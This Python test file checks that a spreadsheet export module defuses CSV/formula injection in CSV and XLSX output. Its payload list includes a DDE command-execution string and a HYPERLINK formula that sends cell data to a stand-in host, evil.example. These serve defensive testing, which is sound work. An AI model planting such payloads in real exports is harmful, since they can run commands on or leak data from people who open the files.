"""No cell of any export runs as a formula, and what is no formula comes back as it was."""

import csv
import io
import itertools
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from routing_jobs.release.rendering import COLUMNS
from routing_jobs.release.spreadsheet import csv_bytes, safe_cell, xlsx_bytes

# An oracle of its own: what Excel, LibreOffice and Google Sheets skip before they look for a formula.
SKIPPED = " \t\r\n\0\"'`\u00a0\u200b\u200c\u200d\ufeff\u2060“”‘’«»„"
STARTS = "=+-@＝＋－＠"
PAYLOADS = [
    f"{skip}{start}{body}"
    for skip, start, body in itertools.product(
        ["", " ", "\t", "\r", "\n", "\0", '"', "\u00a0", "\ufeff", "“", " \n\t", '" '],
        STARTS,
        ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")', "SUM(1,2)", "WEBSERVICE(A1)", "A1;B1"],
    )
] + ["a;=1+1", "x\n=1+1", "x\r\n@SUM(1)", "a;  +1", 'a;"=1+1"', "%0A=1+1", "x\t=1", "foo;-2", "DDE;@x"]


def is_formula(cell):
    """Whether a spreadsheet would try to compute this cell."""
    if cell.startswith("'"):
        return False
    stripped = cell.lstrip(SKIPPED)
    return bool(stripped) and stripped[0] in STARTS


def read(content, delimiter=","):
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline=""), delimiter=delimiter))


def test_the_oracle_knows_a_formula():
    assert is_formula("=1+1") and is_formula(" \n@x") and not is_formula("'=1+1") and not is_formula("a=b")


def test_there_are_five_hundred_payloads():
    assert len(PAYLOADS) > 500


@pytest.mark.parametrize("kind", sorted(COLUMNS))
def test_no_payload_in_any_column_of_any_export_is_a_formula(kind):
    columns = COLUMNS[kind]
    rows = [dict.fromkeys(columns, payload) for payload in PAYLOADS]
    table = read(csv_bytes(columns, rows))
    assert len(table) == len(PAYLOADS) + 1, "no payload makes a row of its own"
    assert all(len(row) == len(columns) for row in table)
    assert not [cell for row in table for cell in row if is_formula(cell)]
    for delimiter in ";\t":
        cells = [cell for row in read(csv_bytes(columns, rows), delimiter) for cell in row]
        assert not [cell for cell in cells if is_formula(cell)], "opened where another sign separates cells"


def test_xlsx_holds_texts_only():
    from openpyxl import load_workbook

    columns = COLUMNS["offer"]
    content = xlsx_bytes(columns, [dict.fromkeys(columns, payload) for payload in PAYLOADS])
    cells = [cell for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell.value for cell in cells if is_formula(cell.value)]


@settings(deadline=None, max_examples=60)
@given(st.from_regex(r"\+[1-9][0-9]{6,14}", fullmatch=True))
def test_a_phone_number_survives_in_its_typed_column_and_only_there(number):
    assert safe_cell(number, "phone") == number
    assert safe_cell(number, "text") == "'" + number


@pytest.mark.parametrize("text", ["+49 30 1", "+49301;=1", "+0301", "+49301\n", "=+4930123456", "+49-30"])
def test_a_phone_number_that_is_none_is_a_text(text):
    assert safe_cell(text, "phone").startswith("'")


@settings(deadline=None, max_examples=150)
@given(st.text())
def test_any_text_makes_one_cell_that_is_no_formula(text):
    columns = {"a": "text", "b": "text"}
    table = read(csv_bytes(columns, [{"a": text, "b": "end"}]))
    assert len(table) == 2 and table[1][1] == "end"
    assert not is_formula(table[1][0])


@settings(deadline=None, max_examples=60)
@given(st.text(st.characters(blacklist_categories=["Cc", "Cs", "Zl", "Zp"]), min_size=1))
def test_an_ordinary_text_is_written_as_it_is(text):
    made = safe_cell(text)
    assert made.removeprefix("'").replace(";'", ";") == text.removeprefix("'").replace(";'", ";")
    if re.match(r"\w", text) and ";" not in text:
        assert made == text


def test_names_of_people_keep_their_signs():
    for name in ("O'Brien", "Ünal-Özgür", "Smith & Sons; Co", "Null", "1E5", "0049301", "a=b", "50 %", "Zoë 🎉"):
        assert safe_cell(name) == name


def test_missing_is_empty_and_typed_columns_keep_ids_and_times():
    assert safe_cell(None) == ""
    for value in ("asg-0a1b", "LR-00FF", "2026-03-03T09:00:00+01:00", "2026-03-03T09:00:00-05:00", "42"):
        assert safe_cell(value, "safe") == value
